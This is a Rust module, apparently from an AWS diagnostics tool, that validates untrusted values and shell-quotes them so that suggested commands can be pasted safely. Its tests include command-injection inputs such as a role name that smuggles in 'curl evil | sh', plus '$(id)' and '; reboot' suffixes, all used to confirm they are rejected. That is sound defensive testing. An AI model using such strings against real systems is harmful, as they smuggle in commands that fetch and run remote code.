//! Ready-to-run shell commands for the reader of a message.
//!
//! A command is built from text of ours and from values. Values come from live
//! state or, worse, from log text, so each one must pass the grammar of its
//! type before it may stand in a line that a person pastes into a shell. A
//! value that does not pass is left out and a placeholder in capitals stands
//! there, which no shell reads as anything but a plain word.
//!
//! Quoting is for POSIX shells and holds in PowerShell too: no value that
//! passes its grammar contains a quote, and JSON is written without one.

use std::fmt;
use std::net::IpAddr;

use crate::cause::closed_names;
use crate::node::{AccountId, InstanceId, NodeId, Region};

closed_names! {
    /// What a value must look like to stand in a command. By its name, in capitals, it is called
    /// where a value is missing or does not pass.
    pub(crate) ArgKind {
        InstanceId = "INSTANCE_ID",
        /// An EC2 instance or a hybrid node.
        NodeId = "NODE_ID",
        AccountId = "ACCOUNT_ID",
        Region = "REGION",
        /// A role's name, without its path.
        RoleName = "ROLE_NAME",
        /// An IAM user's name, without its path.
        UserName = "USER_NAME",
        /// A policy of AWS Organizations.
        PolicyId = "POLICY_ID",
        InstanceProfileName = "INSTANCE_PROFILE_NAME",
        VpcId = "VPC_ID",
        SubnetId = "SUBNET_ID",
        SecurityGroupId = "SECURITY_GROUP_ID",
        VpcEndpointId = "VPC_ENDPOINT_ID",
        RouteTableId = "ROUTE_TABLE_ID",
        NetworkAclId = "NETWORK_ACL_ID",
        /// The name of a Lambda function.
        Function = "FUNCTION",
        /// A DNS name or an address literal.
        Host = "HOST",
        /// An endpoint prefix such as `ssmmessages`, or a word of an API's name.
        Service = "SERVICE",
        /// `ssm:UpdateInstanceInformation`.
        Action = "ACTION",
        Arn = "ARN",
    }
}

impl ArgKind {
    /// Whether `text` as a whole has this form. Nothing that begins with a
    /// hyphen passes: a program would read it as an option.
    pub(crate) fn accepts(self, text: &str) -> bool {
        if text.starts_with('-') {
            return false;
        }
        match self {
            Self::InstanceId => InstanceId::parse(text).is_some(),
            Self::NodeId => NodeId::parse(text).is_some(),
            Self::AccountId => AccountId::parse(text).is_some(),
            Self::Region => Region::parse(text).is_some(),
            Self::RoleName | Self::UserName => is_iam_name(text, 64),
            Self::PolicyId => text
                .strip_prefix("p-")
                .is_some_and(|id| id.len() >= 8 && is_made_of(id, 128, "_")),
            Self::InstanceProfileName => is_iam_name(text, 128),
            Self::VpcId => is_resource_id(text, "vpc-"),
            Self::SubnetId => is_resource_id(text, "subnet-"),
            Self::SecurityGroupId => is_resource_id(text, "sg-"),
            Self::VpcEndpointId => is_resource_id(text, "vpce-"),
            Self::RouteTableId => is_resource_id(text, "rtb-"),
            Self::NetworkAclId => is_resource_id(text, "acl-"),
            Self::Function => is_made_of(text, 64, "-_"),
            Self::Host => is_host(text),
            Self::Service => is_made_of(text, 64, "-"),
            Self::Action => text.split_once(':').is_some_and(|(service, name)| {
                is_made_of(service, 64, "-") && is_made_of(name, 128, "")
            }),
            Self::Arn => {
                text.starts_with("arn:aws")
                    && text.split(':').count() >= 6
                    && is_made_of(text, 2048, ":/_+=,.@-")
            }
        }
    }
}

/// A shell command under construction; [`fmt::Display`] writes the line.
///
/// A value that does not pass the grammar of its kind is left out, and its
/// placeholder stands there: `--region 'eu-central-1; reboot'` becomes
/// `--region REGION`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Command(String);

impl Command {
    /// Begins with text of ours, written as it is: a program and its subcommand.
    pub(crate) fn new(program: &'static str) -> Self {
        Self(program.to_owned())
    }

    /// Adds text of ours, written as it is.
    pub(crate) fn text(mut self, text: &'static str) -> Self {
        self.0.push(' ');
        self.0.push_str(text);
        self
    }

    /// Adds a value, or the placeholder of its grammar.
    pub(crate) fn value(self, grammar: ArgKind, value: &str) -> Self {
        self.value_within("", grammar, value, "")
    }

    /// Adds a value with text of ours glued to both ends, as one word:
    /// `https://` and a host, or `Name=` and an id.
    pub(crate) fn value_within(
        mut self,
        before: &'static str,
        grammar: ArgKind,
        value: &str,
        after: &'static str,
    ) -> Self {
        let value = if grammar.accepts(value) {
            value
        } else {
            grammar.as_str()
        };
        self.0.push(' ');
        self.0.push_str(&quote(&format!("{before}{value}{after}")));
        self
    }

    /// Adds an option of ours and its value, or the placeholder of its grammar.
    pub(crate) fn option(self, name: &'static str, grammar: ArgKind, value: &str) -> Self {
        self.text(name).value(grammar, value)
    }

    /// Adds an option of ours and a JSON document as one quoted word. Text that
    /// is not JSON is left out and `placeholder` stands there.
    pub(crate) fn json_option(
        mut self,
        name: &'static str,
        document: &str,
        placeholder: &'static str,
    ) -> Self {
        self = self.text(name);
        match json_word(document) {
            Some(word) => {
                self.0.push(' ');
                self.0.push_str(&quote(&word));
                self
            }
            None => self.text(placeholder),
        }
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// `word` as a shell reads it back unchanged: bare where every character is
/// plain, in single quotes else.
pub(crate) fn quote(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+,-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// The document's own text with everything outside strings that is only layout
/// taken away, and with every quote and every character beyond printable ASCII
/// written as its escape: what a terminal shows is what the shell passes on.
/// Order and repetition of keys stay as they are.
pub(crate) fn json_word(document: &str) -> Option<String> {
    serde_json::from_str::<serde::de::IgnoredAny>(document).ok()?;
    let mut word = String::with_capacity(document.len());
    let mut in_string = false;
    let mut escaped = false;
    for c in document.chars() {
        if !in_string && c.is_ascii_whitespace() {
            continue;
        }
        if c == '"' && !escaped {
            in_string = !in_string;
        }
        escaped = in_string && c == '\\' && !escaped;
        if c == '\'' || !matches!(c, ' '..='~') {
            let mut units = [0; 2];
            for unit in c.encode_utf16(&mut units) {
                word.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            word.push(c);
        }
    }
    Some(word)
}

/// From 1 to `most` ASCII letters, digits and characters of `besides`.
pub(crate) fn is_made_of(text: &str, most: usize, besides: &str) -> bool {
    !text.is_empty()
        && text.len() <= most
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || besides.contains(c))
}

/// IAM names: letters, digits and `_+=,.@-`.
pub(crate) fn is_iam_name(text: &str, most: usize) -> bool {
    is_made_of(text, most, "_+=,.@-")
}

fn is_resource_id(text: &str, prefix: &str) -> bool {
    text.strip_prefix(prefix).is_some_and(|hex| {
        matches!(hex.len(), 8 | 17) && hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
    })
}

fn is_host(text: &str) -> bool {
    let label = |label: &str| is_made_of(label, 63, "-_");
    text.parse::<IpAddr>().is_ok() || (text.len() <= 253 && text.split('.').all(label))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const ALL: [ArgKind; 18] = [
        ArgKind::InstanceId,
        ArgKind::NodeId,
        ArgKind::AccountId,
        ArgKind::Region,
        ArgKind::RoleName,
        ArgKind::UserName,
        ArgKind::PolicyId,
        ArgKind::InstanceProfileName,
        ArgKind::VpcId,
        ArgKind::SubnetId,
        ArgKind::SecurityGroupId,
        ArgKind::VpcEndpointId,
        ArgKind::RouteTableId,
        ArgKind::NetworkAclId,
        ArgKind::Host,
        ArgKind::Service,
        ArgKind::Action,
        ArgKind::Arn,
    ];

    #[test]
    fn each_grammar_takes_its_own_and_nothing_more() {
        for (grammar, good) in [
            (ArgKind::InstanceId, "i-0123456789abcdef0"),
            (ArgKind::NodeId, "mi-0123456789abcdef0"),
            (ArgKind::AccountId, "123456789012"),
            (ArgKind::Region, "us-gov-west-1"),
            (ArgKind::RoleName, "Team+Role=1,a.b@c-d_e"),
            (ArgKind::UserName, "alice@example.com"),
            (ArgKind::PolicyId, "p-1a2b3c4d"),
            (ArgKind::InstanceProfileName, "web"),
            (ArgKind::VpcId, "vpc-0123456789abcdef0"),
            (ArgKind::SubnetId, "subnet-01234567"),
            (ArgKind::SecurityGroupId, "sg-01234567"),
            (ArgKind::VpcEndpointId, "vpce-0123456789abcdef0"),
            (ArgKind::RouteTableId, "rtb-01234567"),
            (ArgKind::NetworkAclId, "acl-01234567"),
            (ArgKind::Host, "ssm.eu-central-1.amazonaws.com"),
            (ArgKind::Host, "fd00:ec2::254"),
            (ArgKind::Service, "ssmmessages"),
            (ArgKind::Action, "ssm:UpdateInstanceInformation"),
            (ArgKind::Arn, "arn:aws-cn:iam::123456789012:role/a/b+c"),
        ] {
            assert!(grammar.accepts(good), "{grammar:?} {good}");
            for wrong in [
                String::new(),
                format!("-{good}"),
                format!("{good} "),
                format!("{good}\n"),
                format!("{good};id"),
                format!("{good}$(id)"),
                format!("{good}'"),
                format!("{good}é"),
            ] {
                assert!(!grammar.accepts(&wrong), "{grammar:?} {wrong:?}");
            }
        }
    }

    #[test]
    fn a_value_that_does_not_pass_leaves_a_placeholder() {
        let line = Command::new("aws iam get-role")
            .option("--role-name", ArgKind::RoleName, "x'; curl evil | sh #")
            .to_string();
        assert_eq!(line, "aws iam get-role --role-name ROLE_NAME");
        let line = Command::new("curl -sv")
            .value_within(
                "https://",
                ArgKind::Host,
                "ssm.eu-central-1.amazonaws.com",
                "/ping",
            )
            .option("--interface", ArgKind::Host, "")
            .to_string();
        assert_eq!(
            line,
            "curl -sv https://ssm.eu-central-1.amazonaws.com/ping --interface HOST"
        );
    }

    #[test]
    fn a_document_is_one_word_without_quotes_or_hidden_characters() {
        let document = "{\n  \"a b\" : \"it's \\\"x\\\" \u{202e}\u{1f600}\",\n  \"a b\": [1, 2]\n}";
        let line = Command::new("aws")
            .json_option("--policy-document", document, "DOCUMENT")
            .to_string();
        assert_eq!(
            line,
            r#"aws --policy-document '{"a b":"it\u0027s \"x\" \u202e\ud83d\ude00","a b":[1,2]}'"#
        );
        assert_eq!(
            Command::new("aws")
                .json_option("--policy-document", "{'", "DOCUMENT")
                .to_string(),
            "aws --policy-document DOCUMENT"
        );
    }

    /// What a POSIX shell makes of one word written by [`quote`].
    fn unquote(word: &str) -> String {
        let mut out = String::new();
        let mut quoted = false;
        let mut chars = word.chars();
        while let Some(c) = chars.next() {
            match c {
                '\'' => quoted = !quoted,
                '\\' if !quoted => out.extend(chars.next()),
                other => {
                    assert!(quoted || !other.is_whitespace(), "a second word in {word}");
                    out.push(other);
                }
            }
        }
        assert!(!quoted);
        out
    }

    proptest! {
        #[test]
        fn quoting_survives_the_shell(word in any::<String>()) {
            prop_assert_eq!(unquote(&quote(&word)), word);
        }

        #[test]
        fn no_accepted_value_can_leave_its_word(word in "[ -~]{0,40}|[a-z0-9$'\"`;|&<>()\\-]{0,20}") {
            for grammar in ALL {
                if grammar.accepts(&word) {
                    prop_assert!(!word.contains(['\'', '"', '`', '$', '\\', ';', '|', '&', '<', '>', '(', ')', ' ']));
                }
            }
        }

        #[test]
        fn a_document_keeps_its_meaning(text in any::<String>(), key in any::<String>()) {
            let value = serde_json::json!({ key: [text, {"n": 1.5}] });
            let pretty = serde_json::to_string_pretty(&value).unwrap();
            let word = json_word(&pretty).unwrap();
            prop_assert!(word.chars().all(|c| matches!(c, ' '..='~') && c != '\''));
            prop_assert_eq!(serde_json::from_str::<serde_json::Value>(&word).unwrap(), value);
        }
    }
}
